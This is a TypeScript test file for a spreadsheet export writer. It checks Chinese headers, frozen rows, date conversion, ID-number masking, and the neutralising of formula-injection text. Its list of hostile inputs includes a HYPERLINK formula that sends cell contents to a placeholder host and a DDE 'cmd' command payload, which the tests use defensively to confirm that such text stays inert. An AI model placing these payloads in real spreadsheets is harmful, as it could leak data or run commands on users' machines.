import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { maskIdNumber } from '../../formats/export/id-mask';
import { isFormulaLike } from '../../formats/export/inert';
import { excelSerial, sheetName, writeExportWorkbook, type ColumnSpec } from '../../formats/export/write';

/**
 * The export writer against an independent reader (ExcelJS): every workbook opens, the
 * Chinese headers read back, the header row is frozen, the autofilter covers the table, dates
 * are dates, and hostile text comes out as text — never a formula.
 */

async function open(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  return wb;
}

const COLUMNS: ColumnSpec[] = [
  { key: 'name', header: '姓名', type: 'text' },
  { key: 'id', header: '身份证号', type: 'text' },
  { key: 'on', header: '入库日期', type: 'date' },
  { key: 'at', header: '记录时间', type: 'datetime' },
  { key: 'score', header: '得分', type: 'number' },
];

const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+cmd|\' /C calc\'!A0', '@SUM(A1)', '-1+1', '\t=1', '\r=1', '＝1+1', ' =1'];

describe('the export workbook', () => {
  it('opens in ExcelJS with Chinese headers, a frozen header row, an autofilter and real dates', async () => {
    const bytes = writeExportWorkbook([{
      name: '后备人才名册（第一梯队）',
      columns: COLUMNS,
      rows: [
        { name: '张三', id: '320482199205014521', on: '2026-09-01', at: '2026-09-01T01:30:00.000Z', score: 87.5 },
        { name: '李四', id: '320482********4522', on: '2027-02-28', at: '2027-02-28T16:00:00Z', score: null },
      ],
    }]);
    const wb = await open(bytes);
    const ws = wb.worksheets[0]!;
    expect(ws.name).toBe('后备人才名册（第一梯队）');
    expect(ws.getRow(1).values).toEqual([undefined, '姓名', '身份证号', '入库日期', '记录时间', '得分']);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBe('A1:E3');
    expect(ws.getCell('A2').value).toBe('张三');
    // An 18-digit number stays text (not 3.2E+17).
    expect(ws.getCell('B2').value).toBe('320482199205014521');
    const on = ws.getCell('C2').value;
    expect(on).toBeInstanceOf(Date);
    expect((on as Date).toISOString()).toBe('2026-09-01T00:00:00.000Z');
    expect(ws.getCell('C2').numFmt).toBe('yyyy-mm-dd');
    // 01:30Z is 09:30 in Beijing; 16:00Z on the 28th is midnight of 1 March there.
    expect((ws.getCell('D2').value as Date).toISOString()).toBe('2026-09-01T09:30:00.000Z');
    expect((ws.getCell('D3').value as Date).toISOString()).toBe('2027-03-01T00:00:00.000Z');
    expect(ws.getCell('E2').value).toBe(87.5);
    expect(ws.getCell('E3').value).toBeNull();
  });

  it('writes hostile text inert: text, quote-prefixed, byte for byte as given, never a formula', async () => {
    const bytes = writeExportWorkbook([{ name: 'x', columns: [{ key: 'v', header: '内容', type: 'text' }], rows: HOSTILE.map((v) => ({ v })) }]);
    const ws = (await open(bytes)).worksheets[0]!;
    HOSTILE.forEach((text, i) => {
      const cell = ws.getCell(`A${i + 2}`);
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, text).toBeUndefined();
      expect(cell.value, text).toBe(text);
    });
    const xml = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml']!);
    expect(xml).not.toMatch(/<f[ >]/);
    // Each hostile cell carries the quotePrefix style (3); plain text (the header aside) does not.
    expect([...xml.matchAll(/<c r="A(\d+)" s="(\d)"/g)].filter(([, r]) => r !== '1').map(([, , s]) => s)).toEqual(HOSTILE.map(() => '3'));
    expect(strFromU8(unzipSync(bytes)['xl/styles.xml']!)).toMatch(/quotePrefix="1"/);
  });

  it('the inert rule: = + - @ tab CR and their full-width forms, past leading spaces; nothing else', () => {
    for (const t of HOSTILE) expect(isFormulaLike(t), t).toBe(true);
    for (const t of ['张三', '2026-09-01', '1-2', '—', 'a=b', '（=）', '']) expect(isFormulaLike(t), t).toBe(false);
  });

  it('the ID mask keeps the first six and the last four', () => {
    expect(maskIdNumber('320482199205014521')).toBe('320482********4521');
    expect(maskIdNumber('32048219920501452X')).toBe('320482********452X');
    expect(maskIdNumber('12345')).toBe('*****');
    expect(maskIdNumber('')).toBe('');
  });

  it('dates: the serial of a real date, none for an impossible one; sheet names as Excel allows', () => {
    expect(excelSerial('1900-03-01', 'date')).toBe(61);
    expect(excelSerial('2026-02-30', 'date')).toBeUndefined();
    expect(excelSerial('not a date', 'date')).toBeUndefined();
    expect(sheetName('a/b:c*d?[e]')).toBe('a_b_c_d__e_');
    expect([...sheetName('很长'.repeat(20))]).toHaveLength(31);
    expect(sheetName('名册', new Set(['名册']))).toBe('名册_2');
  });

  it('an unparseable date stays as the text it was', async () => {
    const bytes = writeExportWorkbook([{ name: 's', columns: [{ key: 'd', header: '日期', type: 'date' }], rows: [{ d: '待定' }] }]);
    expect((await open(bytes)).worksheets[0]!.getCell('A2').value).toBe('待定');
  });
});
